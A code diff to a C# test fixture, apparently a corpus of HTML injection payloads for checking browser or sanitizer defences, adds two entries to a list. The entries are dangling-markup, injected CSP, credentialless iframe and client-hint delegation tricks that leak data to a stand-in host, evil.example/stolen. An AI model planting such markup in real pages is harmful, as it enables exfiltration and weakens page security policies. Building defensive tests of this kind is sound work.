@@ -35,5 +35,7 @@ internal static class LoadBodies
         ("dangling base target", "the rest of the page becomes a window's name", "<a href=https://evil.example/stolen><b>Click</b></a><base target='"),
         ("policy of its own", "asks for looser rules", "<meta http-equiv=Content-Security-Policy content=\"default-src *; script-src * 'unsafe-inline'\"><img src=https://evil.example/stolen.png onerror=canary()>"),
         ("reports", "a policy that reports to its sender", "<meta http-equiv=Content-Security-Policy-Report-Only content=\"default-src 'none'; report-uri https://evil.example/stolen\"><img src=/stolen.png>"),
+        ("frame without credentials", "a frame that asks as nobody", "<iframe credentialless allow='*' csp='script-src *' src=https://evil.example/stolen srcdoc='<img src=/stolen.png>'></iframe>"),
+        ("hints of the browser", "asks the browser to tell others what it is", "<meta http-equiv=delegate-ch content='sec-ch-ua-model https://evil.example'><meta http-equiv=accept-ch content=sec-ch-ua-model><meta http-equiv=x-dns-prefetch-control content=on><a href=https://evil.example/stolen>x</a>"),
     ];
 }
